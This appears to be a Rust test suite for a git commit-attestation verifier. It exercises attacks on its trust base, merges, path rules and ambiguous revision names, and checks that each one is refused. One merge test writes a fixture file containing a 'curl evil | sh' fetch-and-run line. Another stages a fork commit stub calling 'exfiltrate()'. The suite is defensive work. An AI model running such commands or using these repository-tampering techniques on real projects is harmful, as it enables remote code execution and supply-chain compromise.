//! The attack catalogue of `docs/threat-model.md`, continued: attacks on
//! the trust base (which keyring and policy judge a range), on merges and
//! on path rules. Helpers are shared with [`crate::attacks`].

use crate::attacks::{attested, bob_commits, bob_commits_staged, refused, short, stops, with_bob, RESOLUTION};
use crate::policy::{adopt, hook_accepts, msg, verdicts, BOB_EMAIL, BOB_NAME};
use crate::support::*;

// ------------------------------------------------------ the trust base

#[test]
fn trust_revision_inside_the_range() {
    let (w, bob) = with_bob();
    // Bob's pull request makes him a maintainer, then does his work.
    let path = w.path().join(".avow/keyring.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    let promoted = text.replace("role = \"contributor\"", "role = \"maintainer\"");
    assert_ne!(promoted, text);
    std::fs::write(&path, promoted).unwrap();
    w.git(["add", "-A"]);
    bob_commits_staged(&w, &bob, "Make Bob a maintainer");
    bob_commits(&w, &bob, "b.c", "Bob's work");
    assert_eq!(
        refused(&w, "trusted..HEAD"),
        ["Make Bob a maintainer: rejected trust.avow-change", "Bob's work: accepted"]
    );
    // A CI job that trusts the tip, or any commit of the pull request,
    // would let it vouch for itself: the chain from the base is checked.
    let promotion = short(&w, "HEAD~1");
    for (range, trust) in [("trusted..HEAD", "HEAD"), ("trusted..HEAD", "HEAD~1"), ("trusted..HEAD~1", "HEAD")] {
        stops(
            &w,
            &[range, "--trust", trust],
            &format!(
                "git-avow: error: --trust {trust} is not reachable from the base trusted through trusted changes: \
                 commit {promotion} (\"Make Bob a maintainer\") changes .avow/ without a maintainer's valid attestation under the base's keyring\n\
                 hint: trust a revision the base contains (the default, `--trust trusted`), or have a maintainer attest the .avow/ change\n"
            ),
        );
    }
}

#[test]
fn trust_revision_on_an_orphan_branch() {
    let w = attested();
    // A history of its own whose first commit brings an attacker's .avow/.
    w.git(["checkout", "-q", "--orphan", "elsewhere"]);
    w.git(["commit", "-q", "--no-verify", "-m", "Start over"]);
    w.git(["checkout", "-q", "main"]);
    stops(
        &w,
        &["base..HEAD", "--trust", "elsewhere"],
        &format!(
            "git-avow: error: --trust elsewhere is not reachable from the base base through trusted changes: \
             commit {} (\"Start over\") changes .avow/ without a maintainer's valid attestation under the base's keyring\n\
             hint: trust a revision the base contains (the default, `--trust base`), or have a maintainer attest the .avow/ change\n",
            short(&w, "elsewhere")
        ),
    );
}

#[test]
fn trust_revision_after_a_clean_merge_of_keyring_changes() {
    // Not an attack: the chain rule must not refuse a trusted revision
    // whose .avow/ two maintainer-attested lines changed and a clean,
    // unattested merge (merges = "skip") combined.
    let w = World::adopted("disclose");
    w.git(["checkout", "-q", "-b", "people"]);
    let bob = w.keygen("bob");
    w.avow(["keyring", "add", "--name", BOB_NAME, "--email", BOB_EMAIL, "--key", &format!("{}.pub", bob.display())])
        .expect(0);
    hook_accepts(&w, &[], &msg("Add Bob", "human", &["-a"]), &[]);
    w.git(["checkout", "-q", "main"]);
    let policy = std::fs::read_to_string(w.path().join(".avow/policy.toml")).unwrap();
    w.write(".avow/policy.toml", format!("{policy}\n# Reviewed.\n"));
    hook_accepts(&w, &[], &msg("Note the review", "human", &["-a"]), &[]);
    w.git(["merge", "-q", "--no-ff", "--no-verify", "-m", "Merge people", "people"]);
    w.change("a.c", "a\n", "Alice's work");
    assert_eq!(
        sorted(verdicts(&w, &["base..HEAD", "--trust", "HEAD~1"], 0)),
        ["Add Bob: accepted", "Alice's work: accepted", "Merge people: skipped", "Note the review: accepted"]
    );
}

/// Bob's pull request does `change` to the work tree and index, commits it
/// through the hook with his key, and `verify trusted..HEAD` refuses it.
#[track_caller]
fn bob_changes_avow(subject: &str, change: impl FnOnce(&World)) -> World {
    let (w, bob) = with_bob();
    change(&w);
    bob_commits_staged(&w, &bob, subject);
    assert_eq!(refused(&w, "trusted..HEAD"), [format!("{subject}: rejected trust.avow-change")]);
    w
}

#[test]
fn keyring_deleted_in_the_range() {
    bob_changes_avow("Drop the keyring", |w| {
        w.git(["rm", "-q", ".avow/keyring.toml"]);
    });
}

#[test]
fn avow_dir_replaced_by_a_symlink_in_the_range() {
    bob_changes_avow("Move the policy", |w| {
        w.write("evil/policy.toml", "version = 1\n");
        w.write("evil/keyring.toml", "version = 1\n");
        w.git(["rm", "-q", "-r", ".avow"]);
        std::os::unix::fs::symlink("evil", w.path().join(".avow")).unwrap();
        w.git(["add", "-A"]);
    });
}

#[test]
fn avow_dir_replaced_by_a_submodule_in_the_range() {
    bob_changes_avow("Vendor the policy", |w| {
        // A gitlink where the directory was; the work tree keeps its files.
        let target = format!("160000,{},.avow", w.git(["rev-parse", "HEAD"]));
        w.git(["rm", "-q", "-r", "--cached", ".avow"]);
        w.git(["update-index", "--add", "--cacheinfo", &target]);
    });
}

#[test]
fn case_variant_avow_dir_in_the_range() {
    // On a case-insensitive checkout `.AVOW/keyring.toml` is the keyring.
    bob_changes_avow("Add a keyring", |w| {
        w.write(".AVOW/keyring.toml", "version = 1\n");
        w.git(["add", "-A"]);
    });
}

/// A base tagged `trusted` whose tree is the current one with `.avow`
/// replaced as `change` does; then Alice's attested work on top.
fn trusted_base_with(change: impl FnOnce(&World)) -> World {
    let w = adopt("disclose", None);
    change(&w);
    w.git(["commit", "-q", "--no-verify", "-m", "Odd .avow"]);
    w.git(["tag", "-f", "trusted"]);
    w
}

/// Moves `path` to `to` and puts a symlink to `target` in its place.
fn behind_a_symlink(w: &World, path: &str, to: &str, target: &str) {
    w.git(["mv", path, to]);
    std::os::unix::fs::symlink(target, w.path().join(path)).unwrap();
    w.git(["add", "-A"]);
}

/// git does not look through a symlink or into a submodule for a path.
const NO_KEYRING_AT_TRUSTED: &str = "git-avow: error: there is no .avow/keyring.toml at trusted\n\
    hint: run `git avow init`, commit .avow/, and verify ranges whose base contains it (or pass --trust REV)\n";

#[test]
fn avow_dir_symlink_at_the_trust_base() {
    let w = trusted_base_with(|w| behind_a_symlink(w, ".avow", "real", "real"));
    stops(&w, &["trusted..HEAD"], NO_KEYRING_AT_TRUSTED);
}

#[test]
fn keyring_file_symlink_at_the_trust_base() {
    let w = trusted_base_with(|w| behind_a_symlink(w, ".avow/keyring.toml", "keyring.toml", "../keyring.toml"));
    stops(
        &w,
        &["trusted..HEAD"],
        "git-avow: error: .avow/keyring.toml at trusted is not a regular file (mode 120000); symlinks and submodules are refused\n\
         hint: restore .avow/ as regular text files in a trusted commit\n",
    );
}

#[test]
fn avow_dir_submodule_at_the_trust_base() {
    let w = trusted_base_with(|w| {
        let target = format!("160000,{},.avow", w.git(["rev-parse", "HEAD"]));
        w.git(["rm", "-q", "-r", "--cached", ".avow"]);
        w.git(["update-index", "--add", "--cacheinfo", &target]);
    });
    stops(&w, &["trusted..HEAD"], NO_KEYRING_AT_TRUSTED);
}

#[test]
fn adoption_point_moved_by_a_tag() {
    let w = World::bare();
    let old = w.commit_all("Old work");
    w.git(["tag", "v1"]);
    w.avow(["init"]).expect(0);
    // init names the adoption point by its id; the maintainer prefers the tag.
    let policy = std::fs::read_to_string(w.path().join(".avow/policy.toml")).unwrap();
    w.write(".avow/policy.toml", policy.replace(&format!("since = \"{old}\""), "since = \"v1\""));
    w.git(["add", ".avow"]);
    w.git(["commit", "-q", "--no-verify", "-m", "Adopt avow"]);
    w.git(["tag", "trusted"]);
    w.write("new.txt", "unattested\n");
    w.git(["add", "-A"]);
    w.git(["commit", "-q", "--no-verify", "-m", "Unattested work"]);
    assert_eq!(refused(&w, "trusted..HEAD"), ["Unattested work: rejected attestation.missing"]);
    // The tag the policy names now points at the pull request (a fork's
    // tags, a re-pushed tag): everything up to it would be exempt.
    w.git(["tag", "-f", "v1", "HEAD"]);
    stops(
        &w,
        &["trusted..HEAD"],
        &format!(
            "git-avow: error: adoption.since = \"v1\" in .avow/policy.toml at trusted resolves to {}, which is not in the history of trusted; \
             a moved tag or branch would exempt other commits\n\
             hint: name the adoption commit by its full id in .avow/policy.toml (a commit a maintainer attests), and check where the tag points\n",
            w.git(["rev-parse", "HEAD"])
        ),
    );
}

#[test]
fn mailmap_makes_an_author_look_exempt() {
    let bot = "49699333+dependabot[bot]@users.noreply.github.com";
    let w = adopt("disclose", Some(&format!("version = 1\n[exempt]\nemails = [\"{bot}\"]\n")));
    // The pull request's own .mailmap turns its author into the bot for
    // everything that reads identities through the mailmap.
    w.write(".mailmap", format!("dependabot[bot] <{bot}> {AUTHOR_NAME} <{AUTHOR_EMAIL}>\n"));
    w.write("deps.txt", "evil 6.6.6\n");
    w.git(["add", "-A"]);
    w.git(["commit", "-q", "--no-verify", "-m", "Bump evil"]);
    assert_eq!(w.git(["log", "-1", "--format=%aE"]), bot);
    // The verifier reads the commit's own author.
    assert_eq!(refused(&w, "trusted..HEAD"), ["Bump evil: rejected attestation.missing"]);
}

#[test]
fn exempt_author_changes_the_keyring() {
    let bot = "49699333+dependabot[bot]@users.noreply.github.com";
    let w = adopt("disclose", Some(&format!("version = 1\n[exempt]\nemails = [\"{bot}\"]\n")));
    // Anyone can write a bot's name as the author.
    w.write("deps.txt", "serde 1.0.1\n");
    w.git(["add", "-A"]);
    let author = format!("--author=dependabot[bot] <{bot}>");
    w.git(["commit", "-q", "--no-verify", &author, "-m", "Bump serde"]);
    w.write(".avow/policy.toml", "version = 1\n");
    w.git(["add", "-A"]);
    w.git(["commit", "-q", "--no-verify", &author, "-m", "Bump the policy"]);
    assert_eq!(refused(&w, "trusted..HEAD"), ["Bump serde: exempt", "Bump the policy: rejected trust.avow-change"]);
}

// ------------------------------------------------------------ merges

/// Alice's attested work on `feature` and on `main`, under `policy`, and
/// `git merge --no-ff --no-commit` of the `branches` left in progress.
fn merging(policy: &str, branches: &[&str]) -> World {
    let w = adopt("disclose", Some(policy));
    for b in branches {
        w.git(["checkout", "-q", "-b", b, "trusted"]);
        w.change(&format!("{b}.txt"), &format!("{b}\n"), &format!("Work on {b}"));
    }
    w.git(["checkout", "-q", "main"]);
    w.change("main.txt", "main\n", "Work on main");
    let mut args = vec!["merge", "-q", "--no-ff", "--no-commit"];
    args.extend_from_slice(branches);
    w.git(args);
    w
}

/// Verdict lines in a fixed order (parents of a merge have no order of
/// their own in the output).
fn sorted(mut v: Vec<String>) -> Vec<String> {
    v.sort();
    v
}

#[test]
fn evil_merge_under_merges_skip() {
    let w = merging("version = 1\nmerges = \"skip\"\n", &["feature"]);
    // A change of the merge's own, in no parent: nobody attested it.
    w.write("backdoor.sh", "curl evil | sh\n");
    w.git(["add", "-A"]);
    w.git(["commit", "-q", "--no-verify", "-m", "Merge feature"]);
    assert_eq!(
        sorted(refused(&w, "trusted..HEAD")),
        [
            "Merge feature: rejected attestation.missing warning merge.unclean",
            "Work on feature: accepted",
            "Work on main: accepted",
        ]
    );
    // Reverting the first parent's change in the merge is a change too.
    w.git(["reset", "-q", "--hard", "HEAD^"]);
    w.git(["merge", "-q", "--no-ff", "--no-commit", "feature"]);
    w.git(["rm", "-q", "main.txt"]);
    w.git(["commit", "-q", "--no-verify", "-m", "Merge feature"]);
    assert_eq!(refused(&w, "trusted..HEAD")[2], "Merge feature: rejected attestation.missing warning merge.unclean");
    // So is a merge that drops the other side (`-s ours`).
    w.git(["reset", "-q", "--hard", "HEAD^"]);
    w.git(["merge", "-q", "--no-ff", "--no-verify", "-s", "ours", "-m", "Merge feature", "feature"]);
    assert_eq!(refused(&w, "trusted..HEAD")[2], "Merge feature: rejected attestation.missing warning merge.unclean");
    // The clean merge is skipped, and an attested one is accepted.
    w.git(["reset", "-q", "--hard", "HEAD^"]);
    w.git(["merge", "-q", "--no-ff", "--no-verify", "-m", "Merge feature", "feature"]);
    assert_eq!(verdicts(&w, &["trusted..HEAD"], 0)[2], "Merge feature: skipped");
    w.write("glue.txt", "glue\n");
    w.git(["add", "-A"]);
    w.commit(&["--amend", "-q", "--no-edit", "--trailer", "Authorship: human", "--trailer", RESOLUTION]).expect(0);
    assert_eq!(verdicts(&w, &["trusted..HEAD"], 0)[2], "Merge feature: accepted warning merge.unclean");
}

#[test]
fn evil_octopus_merge_under_merges_skip() {
    let w = merging("version = 1\nmerges = \"skip\"\n", &["one", "two"]);
    w.git(["commit", "-q", "--no-verify", "-m", "Merge one and two"]);
    assert_eq!(verdicts(&w, &["trusted..HEAD"], 0)[3], "Merge one and two: skipped");
    w.write("two.txt", "two, and something else\n");
    w.git(["add", "-A"]);
    w.git(["commit", "-q", "--amend", "--no-verify", "--no-edit"]);
    assert_eq!(
        refused(&w, "trusted..HEAD")[3],
        "Merge one and two: rejected attestation.missing warning merge.unclean"
    );
}

#[test]
fn merge_brings_unattested_commits_from_the_second_parent() {
    let w = adopt("disclose", Some("version = 1\nmerges = \"skip\"\n"));
    w.git(["checkout", "-q", "-b", "feature"]);
    w.write("feature.txt", "unattested\n");
    w.git(["add", "-A"]);
    w.git(["commit", "-q", "--no-verify", "-m", "Sneak in a feature"]);
    w.git(["checkout", "-q", "main"]);
    w.change("main.txt", "main\n", "Work on main");
    w.git(["merge", "-q", "--no-ff", "--no-verify", "-m", "Merge feature", "feature"]);
    // The merge is clean and skipped; what it brings is checked commit by
    // commit, second parent included.
    assert_eq!(
        sorted(refused(&w, "trusted..HEAD")),
        ["Merge feature: skipped", "Sneak in a feature: rejected attestation.missing", "Work on main: accepted"]
    );
}

#[test]
fn attested_merge_resolution_edited_after_signing() {
    let w = merging("version = 1\nmerges = \"require\"\n", &["feature"]);
    w.commit(&["-m", "Merge feature", "--trailer", "Authorship: human", "--trailer", RESOLUTION]).expect(0);
    assert_eq!(verdicts(&w, &["trusted..HEAD"], 0)[2], "Merge feature: accepted");
    // The first-parent diff of a merge is what its attestation binds.
    w.write("feature.txt", "feature, edited in the merge\n");
    w.git(["add", "-A"]);
    w.git(["commit", "-q", "--amend", "--no-verify", "--no-edit"]);
    assert_eq!(refused(&w, "trusted..HEAD")[2], "Merge feature: rejected attestation.change");
}

#[test]
fn merge_of_unrelated_histories_under_merges_skip() {
    let w = adopt("disclose", Some("version = 1\nmerges = \"skip\"\n"));
    w.git(["checkout", "-q", "--orphan", "other"]);
    w.git(["rm", "-q", "-r", "--cached", "."]);
    std::fs::remove_dir_all(w.path().join(".avow")).unwrap();
    w.write("other.txt", "imported\n");
    w.git(["add", "other.txt"]);
    w.git(["commit", "-q", "--no-verify", "-m", "Another project"]);
    w.git(["checkout", "-q", "main"]);
    w.git(["merge", "-q", "--no-verify", "--allow-unrelated-histories", "-m", "Import another project", "other"]);
    // No merge base: the automatic merge is the union, as git's, so the
    // merge is clean and skipped — and the imported history is checked
    // commit by commit.
    assert_eq!(
        sorted(refused(&w, "trusted..HEAD")),
        ["Another project: rejected attestation.missing", "Import another project: skipped"]
    );
    // With a change of its own, it is checked like any commit.
    w.write("glue.txt", "glue\n");
    w.git(["add", "-A"]);
    w.git(["commit", "-q", "--amend", "--no-verify", "--no-edit"]);
    assert_eq!(
        sorted(refused(&w, "trusted..HEAD"))[1],
        "Import another project: rejected attestation.missing warning merge.unclean"
    );
}

// --------------------------------------------------------- path rules

#[test]
fn submodule_bump_under_a_protected_path() {
    let policy = "version = 1\n[[path]]\nglob = \"vendor/lib/**\"\nauthorship = [\"human\"]\n";
    let w = adopt("disclose", Some(policy));
    // The protected code is a submodule: its gitlink path has nothing
    // below it for `vendor/lib/**` to match, unless the rule treats it as
    // the directory it is.
    let target = format!("160000,{},vendor/lib", w.git(["rev-parse", "HEAD"]));
    w.git(["update-index", "--add", "--cacheinfo", &target]);
    crate::policy::sneak(&w, &[], &msg("Bump the vendored library", "assisted", &[]));
    assert_eq!(refused(&w, "trusted..HEAD"), ["Bump the vendored library: rejected path[vendor/lib/**].authorship"]);
}

#[test]
fn case_variant_path_under_a_protected_path() {
    let policy = "version = 1\n[[path]]\nglob = \"crypto/**\"\nauthorship = [\"human\"]\n";
    let w = adopt("disclose", Some(policy));
    w.write("crypto/aes.c", "int aes;\n");
    w.git(["add", "-A"]);
    w.git(["commit", "-q", "--no-verify", "-m", "Add AES"]);
    w.git(["tag", "-f", "trusted"]);
    // On a case-insensitive checkout this file is crypto/aes.c.
    crate::policy::sneak(&w, &[("CRYPTO/aes.c", "int aes_generated;\n")], &msg("Speed up AES", "assisted", &[]));
    assert_eq!(refused(&w, "trusted..HEAD"), ["Speed up AES: rejected path[crypto/**].authorship"]);
}

// ------------------------------------------------- ambiguous revisions

/// Mallory's fork: a commit that makes her a maintainer, tagged
/// `origin/main`, then her work attested with her own key — pushed to a
/// bare repository `fork.git`, nothing of it left locally. Returns the
/// world, with `origin` holding Alice's attested main.
fn fork_with_a_shadowing_tag() -> World {
    let w = crate::attacks::attested();
    w.remote("origin");
    let mallory = w.keygen("mallory");
    w.git(["checkout", "-q", "-b", "evil"]);
    let pubkey = format!("{}.pub", mallory.display());
    let add = ["--name", "Mallory", "--email", "mallory@example.org", "--key", &pubkey, "--role", "maintainer"];
    w.avow(["keyring", "add"].iter().chain(&add)).expect(0);
    w.git(["commit", "-q", "--no-verify", "-am", "Add Mallory"]);
    w.git(["tag", "origin/main"]);
    let sign = format!("avow.signingKey={}", mallory.display());
    w.write("src/parse.rs", "fn parse() { exfiltrate() }\n");
    w.git(["add", "-A"]);
    let mut args: Vec<String> =
        ["-c", "user.name=Mallory", "-c", "user.email=mallory@example.org", "-c", &sign, "commit", "-q"]
            .map(str::to_owned)
            .into();
    args.extend(msg("Mallory's work", "human", &["--author=Mallory <mallory@example.org>"]));
    w.git_notty(&args).expect(0);
    let fork = w.scratch().join("fork.git");
    w.git(["init", "-q", "--bare", fork.to_str().unwrap()]);
    w.git(["push", "-q", "--no-verify", fork.to_str().unwrap(), "evil:refs/heads/main", "refs/tags/origin/main"]);
    w.git(["checkout", "-q", "main"]);
    w.git(["branch", "-q", "-D", "evil"]);
    w.git(["tag", "-d", "origin/main"]);
    // The contributor's fork is fetched; git follows the tag because it
    // points into the fetched history.
    w.git(["remote", "add", "fork", fork.to_str().unwrap()]);
    w.git(["fetch", "-q", "fork"]);
    w
}

#[test]
fn fetched_tag_shadows_the_remote_tracking_branch() {
    let w = fork_with_a_shadowing_tag();
    // The attack's premise: git itself reads `origin/main` as the tag, the
    // fork's commit that made Mallory a maintainer.
    let premise = w.git_output(["rev-parse", "origin/main"]);
    assert_eq!(String::from_utf8_lossy(&premise.stdout).trim(), w.git(["rev-parse", "fork/main~1"]));
    assert!(String::from_utf8_lossy(&premise.stderr).contains("refname 'origin/main' is ambiguous"));
    let refusal =
        "git-avow: error: `origin/main` is ambiguous: it could name refs/tags/origin/main, refs/remotes/origin/main\n\
         hint: name the one you mean in full (e.g. `refs/remotes/origin/main`) or by its full commit id \
         (`git rev-parse refs/remotes/origin/main`); a tag you did not make can go: `git tag -d origin/main`\n";
    stops(&w, &["origin/main..fork/main"], refusal);
    // Every command that names a trust base refuses it the same way.
    for args in [
        &["verify", "fork/main", "--trust", "origin/main"][..],
        &["verify", "refs/remotes/origin/main..fork/main", "--trust", "origin/main"],
        &["report", "origin/main..fork/main"],
        &["report", "fork/main", "--trust", "origin/main"],
        &["show", "fork/main", "--trust", "origin/main"],
        &["verify", "origin/main~1..fork/main"],
    ] {
        let r = w.avow(args).expect(2);
        assert_eq!(
            (r.stdout.as_str(), r.stderr.replace("origin/main~1`", "origin/main`")),
            ("", refusal.to_owned()),
            "{args:?}"
        );
    }
    // Following the hint: the full name trusts Alice's main, and the fork's
    // commits are judged by her keyring.
    let mallory = refused(&w, "refs/remotes/origin/main..fork/main");
    assert_eq!(
        mallory,
        [
            "Add Mallory: rejected attestation.missing trust.avow-change",
            "Mallory's work: rejected signature.unknown-key"
        ]
    );
    // What the shadowed name used to mean: trust from Mallory's own commit,
    // under which her work is accepted.
    let tagged = w.git(["rev-parse", "refs/tags/origin/main"]);
    assert_eq!(verdicts(&w, &[&format!("{tagged}..fork/main")], 0), ["Mallory's work: accepted"]);
    let id = w.git(["rev-parse", "refs/remotes/origin/main"]);
    assert_eq!(refused(&w, &format!("{id}..fork/main")), mallory);
    // And the other hint, run as printed: without the stray tag, the short
    // name is fine.
    let delete = quoted_commands(refusal).into_iter().find(|c| c.starts_with("git tag -d ")).unwrap();
    Run::from(w.shell(&delete).output().unwrap()).expect(0);
    assert_eq!(refused(&w, "origin/main..fork/main"), mallory);
}

#[test]
fn tag_named_like_an_abbreviated_commit_id() {
    // A tag whose name is the short id of the base, pointing elsewhere:
    // git and libgit2 both take the tag.
    let w = crate::attacks::attested();
    let base = w.git(["rev-parse", "base"]);
    let short = &base[..12];
    w.git(["tag", short, "HEAD"]);
    stops(
        &w,
        &[&format!("{short}..HEAD")],
        &format!(
            "git-avow: error: `{short}` is ambiguous: it could name refs/tags/{short}, commit id {base}\n\
             hint: name the one you mean in full (e.g. `refs/tags/{short}`) or by its full commit id \
             (`git rev-parse refs/tags/{short}`); a tag you did not make can go: `git tag -d {short}`\n"
        ),
    );
    // The full id is never ambiguous.
    assert_eq!(verdicts(&w, &[&format!("{base}..HEAD")], 0), ["Fix the parser: accepted"]);
}

/// An octopus merge made with `git fast-import` on top of main: `chain`
/// commits in a line from main (`c0`, `c1`, … each on the last), then
/// `branches` commits each straight on main; the merge's parents are main,
/// then `parents` (marks: `c3`, `b7`), and its tree everything merged,
/// plus `extra` (a path of its own: an evil merge). Each commit adds one
/// file named after it.
fn octopus(chain: usize, branches: usize, parents: &[String], extra: Option<&str>) -> World {
    let w = adopt("disclose", Some("version = 1\nmerges = \"skip\"\n"));
    let mut s = String::new();
    let commit = |s: &mut String, name: &str, mark: usize, from: &str| {
        s.push_str(&format!(
            "commit refs/heads/{name}\nmark :{mark}\ncommitter A <a@example.org> 1764000000 +0000\ndata 5\nWork\nfrom {from}\nM 644 inline {name}.txt\ndata 2\nx\n"
        ));
    };
    let mark = |name: &str| -> usize {
        let (kind, n) = name.split_at(1);
        n.parse::<usize>().unwrap() + 1 + if kind == "b" { chain } else { 0 }
    };
    for i in 0..chain {
        let from = if i == 0 { "refs/heads/main^0".to_owned() } else { format!(":{i}") };
        commit(&mut s, &format!("c{i}"), i + 1, &from);
    }
    for i in 0..branches {
        commit(&mut s, &format!("b{i}"), chain + i + 1, "refs/heads/main^0");
    }
    s.push_str(
        "commit refs/heads/main\ncommitter A <a@example.org> 1764000000 +0000\ndata 6\nMerge\nfrom refs/heads/main^0\n",
    );
    for p in parents {
        s.push_str(&format!("merge :{}\n", mark(p)));
    }
    let files = (0..chain).map(|i| format!("c{i}")).chain((0..branches).map(|i| format!("b{i}")));
    let merged: Vec<String> = files
        .filter(|f| parents.iter().any(|p| p == f || (f.starts_with('c') && p.starts_with('c') && mark(f) < mark(p))))
        .collect();
    for f in merged.iter().map(String::as_str).chain(extra) {
        s.push_str(&format!("M 644 inline {f}.txt\ndata 2\nx\n"));
    }
    w.git_stdin(["fast-import", "--quiet"], s.as_bytes());
    w.git(["reset", "-q", "--hard"]);
    w
}

/// The merge's verdict line in `verify HEAD^..HEAD` (as [`verdicts`]
/// writes them).
fn merge_verdict(w: &World, code: i32) -> String {
    verdicts(w, &["HEAD^..HEAD"], code).into_iter().find(|l| l.starts_with("Merge: ")).unwrap()
}

/// Parents that are ancestors of other parents (a line of commits named in
/// any order, some twice merged) merge as git's octopus merges them: a
/// clean merge is skipped, one with a change of its own is not.
#[test]
fn octopus_merge_of_parents_that_reach_each_other() {
    let parents: Vec<String> = ["c4", "b0", "c2", "c0", "b1", "c6", "c5"].map(str::to_owned).to_vec();
    let w = octopus(7, 2, &parents, None);
    assert_eq!(w.git(["rev-list", "--parents", "-n", "1", "HEAD"]).split(' ').count(), 9);
    assert_eq!(merge_verdict(&w, 1), "Merge: skipped");
    let w = octopus(7, 2, &parents, Some("backdoor"));
    assert_eq!(merge_verdict(&w, 1), "Merge: rejected attestation.missing warning merge.unclean");
}

/// The pusher chooses how many parents a merge has, and merging them
/// again to see whether the merge only merges costs a walk from every
/// parent merged before each next one: 600 took 1.5 s of CPU (debug) in
/// one verification, 20 times the rest of it. Up to 100 parents a clean
/// octopus is still skipped; beyond, it is not merged again and needs an
/// attestation like any commit, and the warning says why.
#[test]
fn an_octopus_of_hundreds_of_parents_costs_no_more_than_its_commits() {
    let names = |n: usize| (0..n).map(|i| format!("b{i}")).collect::<Vec<_>>();
    let w = octopus(0, 99, &names(99), None);
    assert_eq!(merge_verdict(&w, 1), "Merge: skipped");
    let w = octopus(0, 600, &names(600), None);
    let r = w.avow(["verify", "HEAD^..HEAD"]).expect(1);
    assert!(
        r.stdout.contains("a merge of 601 parents (more than 100) is not merged again to see whether it only merges, so it is checked like any commit and needs an attestation"),
        "{}",
        r.stdout
    );
    assert_eq!(merge_verdict(&w, 1), "Merge: rejected attestation.missing warning merge.unclean");
}
